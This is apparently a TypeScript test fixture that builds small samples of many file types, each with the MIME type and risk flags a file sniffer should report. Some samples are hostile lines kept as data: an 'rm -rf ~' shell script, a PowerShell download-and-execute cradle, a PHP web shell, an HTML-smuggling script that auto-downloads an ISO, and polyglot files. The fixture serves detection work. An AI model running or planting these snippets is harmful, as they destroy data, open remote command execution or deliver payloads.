/** Small files of many types, each made here, with what a sniffer must say of it. */
import { gzipSync } from 'node:zlib'
import { documentSamples, type FileSample } from './document-samples.ts'
import { at, hex, ole, pdf, zip } from './file-builders.ts'

const smuggler =
  'var b=new Blob([Uint8Array.from(atob(d),c=>c.charCodeAt(0))]);a.href=URL.createObjectURL(b);a.download="x.iso";a.click()'

export const fileSamples: readonly FileSample[] = [
  // Programs.
  [
    'a program of Windows',
    at(60, hex('80000000'), 4096).fill('MZ', 0, 2).fill('PE\0\0', 128, 132),
    'application/x-msdownload',
    'executable',
  ],
  ['a program of Linux', hex(`7F454C46 02010100 ${'00'.repeat(60)}`), 'application/x-elf', 'executable'],
  [
    'a program of macOS',
    hex(`CFFAEDFE 07000001 ${'00'.repeat(60)}`),
    'application/x-mach-binary',
    'executable',
  ],
  [
    'a class of Java',
    hex(`CAFEBABE 00000034 001D0A00 06000F09 ${'00'.repeat(20)}`),
    'application/java-vm',
    'executable',
  ],
  [
    'a Java archive',
    zip({ name: 'META-INF/MANIFEST.MF', content: 'Manifest-Version: 1.0' }),
    'application/java-archive',
    'executable',
  ],
  [
    'an app of Android',
    zip({ name: 'AndroidManifest.xml', content: 'x' }),
    'application/vnd.android.package-archive',
    'executable',
  ],
  [
    'an installer',
    ole({ name: 'Root Entry', classId: '84100C0000000000C000000000000046' }),
    'application/x-msi',
    'executable',
  ],
  // Scripts.
  ['a shell script', '#!/bin/sh\nrm -rf ~\n', 'text/x-shellscript', 'script'],
  ['a Python script', '#!/usr/bin/env python3\nprint()\n', 'text/x-python', 'script'],
  ['a batch file', '\r\n@echo off\r\nstart calc\r\n', 'application/x-bat', 'script'],
  ['a batch file with comments', 'REM x\r\n:: y\r\n@ECHO OFF\r\n', 'application/x-bat', 'script'],
  [
    'VBScript',
    '\' a comment\r\nOn Error Resume Next\r\nSet s = CreateObject("WScript.Shell")\r\n',
    'text/vbscript',
    'script',
  ],
  [
    'VBScript in UTF-16',
    Buffer.from('\ufeffDim s\r\nSet s = CreateObject("WScript.Shell")\r\n', 'utf16le'),
    'text/vbscript',
    'script',
  ],
  [
    'VBScript in UTF-16 without a mark',
    Buffer.from('Dim s\r\nSet s = CreateObject("WScript.Shell")\r\n', 'utf16le'),
    'text/vbscript',
    'script',
  ],
  ['JScript', '// x\nvar s = new ActiveXObject("WScript.Shell");\n', 'text/javascript', 'script'],
  [
    'PowerShell',
    '$c = New-Object Net.WebClient\nIEX $c.DownloadString("http://x")\n',
    'application/x-powershell',
    'script',
  ],
  ['PHP', '<?php system($_GET["c"]);', 'application/x-php', 'script'],
  ['encoded VBScript', '#@~^kQAAAA==', 'text/x-ms-encoded-script', 'script'],
  ['an HTML application', '<html><head><HTA:APPLICATION id="x"/></head></html>', 'application/hta', 'script'],
  [
    'a script file of Windows',
    '<?xml version="1.0"?><job id="x"><script language="JScript">x</script></job>',
    'application/x-ms-wsf',
    'script',
  ],
  [
    'the same without a declaration',
    '<package xmlns="x"><job><script>x</script></job></package>',
    'application/x-ms-wsf',
    'script',
  ],
  [
    'registry entries',
    'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER]\r\n',
    'application/x-ms-regedit',
    'script',
  ],
  ['compiled help', at(0, 'ITSF\x03\0\0\0', 100), 'application/vnd.ms-htmlhelp', 'script'],
  ['compiled Python', hex(`A70D0D0A 00000000 ${'00'.repeat(8)}`), 'application/x-python-bytecode', 'script'],
  // Shortcuts.
  [
    'a shortcut',
    hex(`4C000000 01140200 00000000 C0000000 00000046 ${'00'.repeat(60)}`),
    'application/x-ms-shortcut',
    'shortcut',
  ],
  ['an internet shortcut', '[InternetShortcut]\r\nURL=file://x/y\r\n', 'application/x-mswinurl', 'shortcut'],
  ['a desktop entry', '[Desktop Entry]\nExec=sh\n', 'application/x-desktop', 'shortcut'],
  [
    'a search connector',
    '<?xml version="1.0"?><searchConnectorDescription xmlns="x">',
    'application/windows-library+xml',
    'shortcut',
  ],
  ['a remote desktop', 'full address:s:10.0.0.1\r\n', 'application/x-rdp', 'shortcut'],
  // Disk images.
  ['ISO 9660', at(0x8001, 'CD001', 40_000), 'application/x-iso9660-image', 'disk-image'],
  ['UDF', at(0x8001 + 2 * 2048, 'NSR02', 40_000), 'application/x-iso9660-image', 'disk-image'],
  ['ISO 9660 in raw sectors', at(0x9311, 'CD001', 40_000), 'application/x-iso9660-image', 'disk-image'],
  ['a fixed VHD', at(10_000 - 512, 'conectix', 10_000), 'application/x-vhd', 'disk-image'],
  ['a VHDX', at(0, 'vhdxfile', 1000), 'application/x-vhdx', 'disk-image'],
  ['a disk of macOS', at(10_000 - 512, 'koly', 10_000), 'application/x-apple-diskimage', 'disk-image'],
  [
    'a boot record',
    at(446, hex(`80010100 06FE3F01 ${'00'.repeat(56)} 55AA`), 2000),
    'application/x-raw-disk-image',
    'disk-image',
  ],
  ['a file system of DOS', at(54, 'FAT16   ', 1000), 'application/x-raw-disk-image', 'disk-image'],
  ...documentSamples,
  // Pages.
  ['HTML', '<!DOCTYPE html>\n<html><body>Hello</body></html>', 'text/html'],
  ['HTML behind a comment', '  <!-- x --><p>Hello', 'text/html'],
  ['HTML with a mark', Buffer.concat([hex('EFBBBF'), Buffer.from('<html>x')]), 'text/html'],
  ['HTML with odd octets', '<html>\x00<script>x</script>', 'text/html', 'html-active'],
  ['HTML that runs', '<html><script>x()</script>', 'text/html', 'html-active'],
  ['HTML that redirects', '<html><meta content="0;url=x" http-equiv="refresh">', 'text/html', 'html-active'],
  [
    'HTML that makes a file',
    `<html><script>${smuggler}</script>`,
    'text/html',
    'html-active',
    'html-smuggling',
  ],
  [
    'HTML that makes a file, late',
    `<html>${' '.repeat(9000)}<script>${smuggler}</script>`,
    'text/html',
    'html-active',
    'html-smuggling',
  ],
  [
    'HTML with a file in a link',
    '<html><a download="x.iso" href="data:application/octet-stream;base64,AAAA">x</a>',
    'text/html',
    'html-smuggling',
  ],
  ['SVG', '<svg xmlns="http://www.w3.org/2000/svg"><path/></svg>', 'image/svg+xml'],
  ['SVG that runs', '<?xml version="1.0"?><svg onload="x()">', 'image/svg+xml', 'html-active'],
  ['XML', '<?xml version="1.0"?><a/>', 'application/xml'],
  // Mail and text.
  ['a mail', 'Received: from x\r\n\tby y\r\nSubject: x\r\nFrom: a@b\r\n\r\nHello', 'message/rfc822'],
  [
    'a mail with a mark of a mailbox',
    'From a@b Mon Jan  1 00:00:00 2026\nFrom: a@b\nTo: c@d\n\nx',
    'message/rfc822',
  ],
  ['a calendar', 'BEGIN:VCALENDAR\r\nVERSION:2.0\r\n', 'text/calendar'],
  ['a card', 'BEGIN:VCARD\nVERSION:4.0\n', 'text/vcard'],
  ['a uuencoded file', 'Hello\n\nbegin 644 x.exe\n#0V%T\n`\nend\n', 'text/x-uuencode'],
  ['a yEnc file', '=ybegin line=128 size=123 name=x.exe\r\n', 'text/x-yenc'],
  ['BinHex', '(This file must be converted with BinHex 4.0)\r\n\r\n:$f*TEQKPH', 'application/mac-binhex40'],
  ['TNEF', hex(`789F3E22 0100 ${'00'.repeat(30)}`), 'application/ms-tnef'],
  ['a message of PGP', '-----BEGIN PGP MESSAGE-----\n\nx', 'application/pgp-encrypted', 'encrypted'],
  ['a message of S/MIME', hex('30820100 06092A864886F70D010703 A0'), 'application/pkcs7-mime', 'encrypted'],
  ['a signature of S/MIME', hex('3080 06092A864886F70D010702 A080'), 'application/pkcs7-mime'],
  ['an age file', 'age-encryption.org/v1\n-> X25519 x\n', 'application/age-encryption', 'encrypted'],
  ['text', 'Hello, world\r\n', 'text/plain'],
  [
    'text in another character set',
    Buffer.from([0xcf, 0xf0, 0xe8, 0xe2, 0xe5, 0xf2, 0x0d, 0x0a]),
    'text/plain',
  ],
  ['nothing', '', 'text/plain'],
  // Archives and pictures.
  ['a zip', zip({ name: 'a.txt', content: 'x' }), 'application/zip'],
  [
    'an encrypted zip',
    zip({ name: 'a.txt', content: 'x' }, { name: 'b.txt', content: 'x', encrypted: true }),
    'application/zip',
    'encrypted',
  ],
  ['gzip', gzipSync('x'), 'application/gzip'],
  ['7z', hex(`377ABCAF271C 0004 ${'00'.repeat(30)}`), 'application/x-7z-compressed'],
  [
    'PNG',
    hex(`89504E470D0A1A0A 0000000D49484452 00000001 00000001 08060000 00 1F15C489 0000000049454E44AE426082`),
    'image/png',
  ],
  // Two in one.
  [
    'a picture that is a zip',
    Buffer.concat([
      hex('FFD8FFE000104A46494600'),
      Buffer.alloc(5000),
      zip({ name: 'META-INF/MANIFEST.MF', content: 'x' }),
    ]),
    'image/jpeg',
    'polyglot',
  ],
  [
    'a picture that is a PDF',
    at(100, '%PDF-1.4\n', 3000).fill(hex('FFD8FFE000104A46494600'), 0, 11),
    'image/jpeg',
    'polyglot',
  ],
  [
    'a PDF that is a zip',
    Buffer.concat([Buffer.from(pdf('')), zip({ name: 'a', content: 'x' })]),
    'application/pdf',
    'polyglot',
  ],
  // Unknown.
  ['octets of nobody', hex(`00FF00FF${'9C013B'.repeat(40)}`), undefined],
]
